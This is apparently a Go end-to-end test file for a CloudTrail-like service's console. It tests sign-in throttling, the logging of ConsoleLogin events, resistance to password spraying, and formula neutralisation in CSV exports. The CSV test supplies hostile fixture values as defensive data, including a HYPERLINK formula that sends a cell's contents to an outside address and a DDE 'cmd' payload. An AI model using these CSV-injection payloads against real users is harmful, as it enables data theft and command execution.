package e2e

// Console sign-in under attack (failed sign-ins slow down one key from one
// address, not its neighbours; every checked sign-in is a ConsoleLogin
// event) and the CSV download's neutralised formulas, against the real
// binary.

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail/types"
	"github.com/chromedp/chromedp"
)

// conHTTPClient is a browser-less console client whose connections come
// from the loopback address from (any of 127.0.0.0/8 on Linux), so that a
// test can sign in from another address. It follows no redirects.
func conHTTPClient(t *testing.T, from string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 10 * time.Second}
	tr := &http.Transport{DialContext: d.DialContext}
	t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: 60 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

var conCSRFRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// conHTTPAnswer is a console answer read whole.
type conHTTPAnswer struct {
	status  int
	header  http.Header
	body    string
	session *http.Cookie
}

// conHTTPSignIn posts the sign-in form as a browser does: it fetches the
// form (its token and cookie) and sends it back with the key pair.
func conHTTPSignIn(t *testing.T, c *http.Client, srv *Server, key, secret string) conHTTPAnswer {
	t.Helper()
	resp, err := c.Get(srv.URL + "/console/login")
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	m := conCSRFRE.FindSubmatch(page)
	var login *http.Cookie
	for _, ck := range resp.Cookies() {
		if ck.Name == "cairn_login" {
			login = ck
		}
	}
	if m == nil || login == nil {
		t.Fatalf("sign-in page without a token or cookie: %s\n%s", resp.Status, page)
	}
	form := url.Values{"csrf": {string(m[1])}, "access_key_id": {key}, "secret_access_key": {secret}, "next": {"/console/events"}}
	req, _ := http.NewRequest("POST", srv.URL+"/console/login", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("User-Agent", "e2e-http/1.0")
	req.AddCookie(login)
	resp, err = c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	a := conHTTPAnswer{status: resp.StatusCode, header: resp.Header, body: string(body)}
	for _, ck := range resp.Cookies() {
		if ck.Name == "cairn_session" && ck.Value != "" {
			a.session = ck
		}
	}
	return a
}

// conSignInEvent is the part of a ConsoleLogin record the tests check.
type conSignInEvent struct {
	UserIdentity struct {
		Type        string `json:"type"`
		PrincipalID string `json:"principalId"`
		ARN         string `json:"arn"`
		AccountID   string `json:"accountId"`
		UserName    string `json:"userName"`
	} `json:"userIdentity"`
	EventSource         string            `json:"eventSource"`
	EventName           string            `json:"eventName"`
	EventType           string            `json:"eventType"`
	AWSRegion           string            `json:"awsRegion"`
	SourceIPAddress     string            `json:"sourceIPAddress"`
	UserAgent           string            `json:"userAgent"`
	ErrorMessage        string            `json:"errorMessage"`
	ResponseElements    map[string]string `json:"responseElements"`
	AdditionalEventData map[string]string `json:"additionalEventData"`
	ReadOnly            *bool             `json:"readOnly"`
	ManagementEvent     *bool             `json:"managementEvent"`
	EventCategory       string            `json:"eventCategory"`
	RecipientAccountID  string            `json:"recipientAccountId"`
}

// conSignInEvents are the ConsoleLogin events of LookupEvents, oldest
// first.
func conSignInEvents(t *testing.T, sdk *cloudtrail.Client) []conSignInEvent {
	t.Helper()
	var evs []conSignInEvent
	pager := cloudtrail.NewLookupEventsPaginator(sdk, &cloudtrail.LookupEventsInput{
		LookupAttributes: []types.LookupAttribute{{AttributeKey: types.LookupAttributeKeyEventName, AttributeValue: aws.String("ConsoleLogin")}}})
	for pager.HasMorePages() {
		page, err := pager.NextPage(context.Background())
		if err != nil {
			t.Fatalf("LookupEvents ConsoleLogin: %v", err)
		}
		for _, e := range page.Events {
			var ev conSignInEvent
			if err := json.Unmarshal([]byte(aws.ToString(e.CloudTrailEvent)), &ev); err != nil {
				t.Fatalf("ConsoleLogin record: %v\n%s", err, aws.ToString(e.CloudTrailEvent))
			}
			if aws.ToString(e.Username) != ev.UserIdentity.UserName || aws.ToString(e.ReadOnly) != "false" ||
				aws.ToString(e.EventSource) != "signin.amazonaws.com" {
				t.Errorf("LookupEvents summary %+v does not match its record", e)
			}
			evs = append(evs, ev)
		}
	}
	slices.Reverse(evs)
	return evs
}

// TestConsoleSignInThrottle: 20 failed sign-ins for alice from 127.0.0.1
// make alice's key wait there, with a page that says until when; rita signs
// in from the same address at once and alice from another address at once;
// every checked attempt is a ConsoleLogin event in the global region.
func TestConsoleSignInThrottle(t *testing.T) {
	// A first wait of an hour: the test cannot outlive it.
	srv := Start(t, Options{Config: StandardConfig + "console:\n  sign_in: {first_wait: 1h, max_wait: 2h}\n"})
	ctx, problems := conBrowser(t)
	text := func(id string) chromedp.Action[string] { return chromedp.Text(chromedp.ID(id)) }
	attempt := func(key, secret string) string {
		t.Helper()
		conRun(t, ctx, "sign-in attempt",
			chromedp.Navigate(srv.URL+"/console/login"),
			chromedp.WaitVisible(chromedp.ID("access_key_id")),
			chromedp.SetValue(chromedp.ID("access_key_id"), key),
			chromedp.SetValue(chromedp.ID("secret_access_key"), secret),
			chromedp.Submit(chromedp.ID("secret_access_key")),
			chromedp.WaitVisible(chromedp.ID("login-error")))
		return conGet(t, ctx, "sign-in error", text("login-error"))
	}
	// The wait is shown to the second (the page counts it down).
	const waitText = `Too many failed sign-ins with this access key from your address\. Try again in (60 minutes|59 minutes( \d+ seconds?)?) \(at \d\d:\d\d:\d\d UTC\)\.`
	waitRE := regexp.MustCompile(`^` + waitText + `$`)
	// The failure that starts the wait says so at once.
	startRE := regexp.MustCompile(`^The access key ID or the secret access key is not valid\. ` + waitText + `$`)
	for i := 0; i < 20; i++ {
		msg := attempt(AdminKey, fmt.Sprintf("guess-%02d", i))
		if i < 4 && msg != "The access key ID or the secret access key is not valid." || i == 4 && !startRE.MatchString(msg) ||
			i >= 5 && !waitRE.MatchString(msg) {
			t.Fatalf("attempt %d: %q", i+1, msg)
		}
	}
	// The wait counts down in the page.
	first := conGet(t, ctx, "wait", chromedp.Text(chromedp.ID("login-wait")))
	conRun(t, ctx, "countdown", chromedp.Poll[chromedp.Void](`document.getElementById("login-wait").textContent !== `+strconv.Quote(first),
		chromedp.WithPollingTimeout(time.Minute)))
	if now := conGet(t, ctx, "wait", chromedp.Text(chromedp.ID("login-wait"))); !regexp.MustCompile(`^Try again in 59 minutes( \d+ seconds?)?$`).MatchString(now) {
		t.Fatalf("the countdown shows %q (was %q)", now, first)
	}
	// Rita, from the same address, signs in at once; then signs out.
	conSignIn(t, ctx, srv, ReaderKey, ReaderSecret)
	conRun(t, ctx, "sign out", chromedp.Click(chromedp.CSS(".who button")), conWaitURL("/console/login?out=1"))
	// Alice's right secret from the attacked address waits: it is not
	// even checked.
	if msg := attempt(AdminKey, AdminSecret); !waitRE.MatchString(msg) {
		t.Fatalf("alice's right secret from the attacked address: %q", msg)
	}
	// An unknown key is refused and recorded nowhere.
	if msg := attempt("AKIANOSUCHKEY0000001", "x"); !strings.Contains(msg, "not valid") {
		t.Fatalf("unknown key: %q", msg)
	}
	// Alice from another address signs in at once.
	other := conHTTPSignIn(t, conHTTPClient(t, "127.0.0.2"), srv, AdminKey, AdminSecret)
	if other.status != http.StatusSeeOther || other.session == nil {
		t.Fatalf("alice from 127.0.0.2: %d\n%s", other.status, other.body)
	}
	// The refusal over plain HTTP: 429 with Retry-After.
	again := conHTTPSignIn(t, conHTTPClient(t, "127.0.0.1"), srv, AdminKey, AdminSecret)
	if again.status != http.StatusTooManyRequests || again.session != nil || again.header.Get("Retry-After") == "" ||
		!strings.Contains(again.body, "Too many failed sign-ins with this access key from your address") {
		t.Fatalf("alice from 127.0.0.1 over HTTP: %d, Retry-After %q\n%s", again.status, again.header.Get("Retry-After"), again.body)
	}

	// In event history: the 5 checked failures, rita's and alice's
	// sign-ins; not the refused attempts, not the unknown key.
	sdk := srv.CloudTrail(AdminKey, AdminSecret, "us-east-1")
	evs := conSignInEvents(t, sdk)
	var got []string
	for _, e := range evs {
		got = append(got, fmt.Sprintf("%s %s %s", e.UserIdentity.UserName, e.SourceIPAddress, e.ResponseElements["ConsoleLogin"]))
	}
	want := []string{"alice 127.0.0.1 Failure", "alice 127.0.0.1 Failure", "alice 127.0.0.1 Failure", "alice 127.0.0.1 Failure",
		"alice 127.0.0.1 Failure", "rita 127.0.0.1 Success", "alice 127.0.0.2 Success"}
	if !slices.Equal(got, want) {
		t.Fatalf("ConsoleLogin events:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for i, e := range evs {
		success := e.ResponseElements["ConsoleLogin"] == "Success"
		ui := e.UserIdentity
		if ui.Type != "IAMUser" || ui.AccountID != Account1 || ui.ARN != "arn:aws:iam::111111111111:user/"+ui.UserName ||
			!strings.HasPrefix(ui.PrincipalID, "AIDA") {
			t.Errorf("event %d: userIdentity %+v", i, ui)
		}
		if e.EventSource != "signin.amazonaws.com" || e.EventName != "ConsoleLogin" || e.EventType != "AwsConsoleSignIn" ||
			e.AWSRegion != "us-east-1" || e.ReadOnly == nil || *e.ReadOnly || e.ManagementEvent == nil || !*e.ManagementEvent ||
			e.EventCategory != "Management" || e.RecipientAccountID != Account1 || len(e.ResponseElements) != 1 {
			t.Errorf("event %d: %+v", i, e)
		}
		if success == (e.ErrorMessage != "") || !success && e.ErrorMessage != "Failed authentication" {
			t.Errorf("event %d: %s with errorMessage %q", i, e.ResponseElements["ConsoleLogin"], e.ErrorMessage)
		}
		wantUA := "Chrome"
		if e.SourceIPAddress == "127.0.0.2" {
			wantUA = "e2e-http/1.0"
		}
		if !strings.Contains(e.UserAgent, wantUA) {
			t.Errorf("event %d: userAgent %q", i, e.UserAgent)
		}
		if d := e.AdditionalEventData; d["LoginTo"] != srv.URL+"/console/events" || d["MobileVersion"] != "No" || d["MFAUsed"] != "No" {
			t.Errorf("event %d: additionalEventData %v", i, d)
		}
	}
	// Sign-ins are global events: none in another region.
	out, err := srv.CloudTrail(AdminKey, AdminSecret, "us-west-2").LookupEvents(context.Background(), &cloudtrail.LookupEventsInput{
		LookupAttributes: []types.LookupAttribute{{AttributeKey: types.LookupAttributeKeyEventName, AttributeValue: aws.String("ConsoleLogin")}}})
	if err != nil || len(out.Events) != 0 {
		t.Fatalf("ConsoleLogin events in us-west-2: %d, %v", len(out.Events), err)
	}
	// Bob's account sees none of account 111111111111's sign-ins.
	if evs := conSignInEvents(t, srv.CloudTrail(OtherKey, OtherSecret, "us-east-1")); len(evs) != 0 {
		t.Fatalf("account 222222222222 sees %d ConsoleLogin events", len(evs))
	}
	if p := problems(); len(p) > 0 {
		t.Fatalf("the pages logged errors:\n%s", strings.Join(p, "\n"))
	}
}

// TestConsoleCSVFormulas: a CSV download through the console neutralises
// cells that a spreadsheet would take for formulas after leading
// whitespace.
func TestConsoleCSVFormulas(t *testing.T) {
	srv := Start(t, Options{Config: StandardConfig})
	now := time.Now().UTC().Truncate(time.Second)
	hostile := map[string]string{
		"user":   "\n=HYPERLINK(\"http://198.51.100.7/?d=\"&A1,\"details\")",
		"name":   " =1+1",
		"source": "\u00a0@SUM(1)",
		"ip":     "\t=2+3",
		"key":    "\uff1dcmd|' /C calc'!A0",
		"arn":    "\u2003-1+1",
	}
	id := conIdentity("mallory")
	id["userName"] = hostile["user"]
	id["accessKeyId"] = hostile["key"]
	rec := Record(hostile["name"], hostile["source"], "us-east-1", now.Add(-time.Minute), map[string]any{
		"userIdentity": id, "sourceIPAddress": hostile["ip"], "eventID": "csv-formula-0001",
		"resources": []map[string]any{{"ARN": hostile["arn"], "type": "AWS::S3::Object"}}})
	if res := srv.Ingest(t, AdminKey, AdminSecret, rec); res.Accepted != 1 {
		t.Fatalf("ingest: %+v", res)
	}
	c := conHTTPClient(t, "127.0.0.1")
	in := conHTTPSignIn(t, c, srv, AdminKey, AdminSecret)
	if in.session == nil {
		t.Fatalf("sign-in: %d\n%s", in.status, in.body)
	}
	req, _ := http.NewRequest("GET", srv.URL+"/console/events.csv?range=24h&attr=EventId&value=csv-formula-0001", nil)
	req.AddCookie(in.session)
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
		b, _ := io.ReadAll(resp.Body)
		t.Fatalf("CSV download: %s\n%s", resp.Status, b)
	}
	rows, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v", err)
	}
	if len(rows) != 2 {
		t.Fatalf("CSV has %d lines, want the header and one event: %q", len(rows), rows)
	}
	// Columns: time, user, name, source, resource type, resource name,
	// read-only, error code, event ID, access key, source IP.
	row := rows[1]
	for col, field := range map[int]string{1: "user", 2: "name", 3: "source", 5: "arn", 9: "key", 10: "ip"} {
		if want := "'" + hostile[field]; row[col] != want {
			t.Errorf("column %d (%s): %q, want %q", col+1, rows[0][col], row[col], want)
		}
	}
}

// TestConsoleSignInSprayLocksOutNobody: one address sprays made-up keys
// past the per-address limit (as an attacker behind the NAT or proxy the
// users share would). Users who have not failed there still sign in at
// once; the sprayed keys wait.
func TestConsoleSignInSprayLocksOutNobody(t *testing.T) {
	srv := Start(t, Options{Config: StandardConfig + "console:\n  sign_in: {failures_per_address: 20, first_wait: 1h, max_wait: 2h}\n"})
	c := conHTTPClient(t, "127.0.0.1")
	for i := 0; i <= 20; i++ {
		if a := conHTTPSignIn(t, c, srv, fmt.Sprintf("AKIASPRAY%011d", i), "guess"); a.status != http.StatusUnauthorized {
			t.Fatalf("sprayed key %d: %d\n%s", i, a.status, a.body)
		}
	}
	if a := conHTTPSignIn(t, c, srv, fmt.Sprintf("AKIASPRAY%011d", 0), "guess"); a.status != http.StatusTooManyRequests ||
		!strings.Contains(a.body, "Too many failed sign-ins from your address") {
		t.Fatalf("a sprayed key again: %d\n%s", a.status, a.body)
	}
	for _, u := range []struct{ key, secret string }{{AdminKey, AdminSecret}, {ReaderKey, ReaderSecret}} {
		if a := conHTTPSignIn(t, c, srv, u.key, u.secret); a.status != http.StatusSeeOther || a.session == nil {
			t.Fatalf("%s from the spraying address: %d\n%s", u.key, a.status, a.body)
		}
	}
}
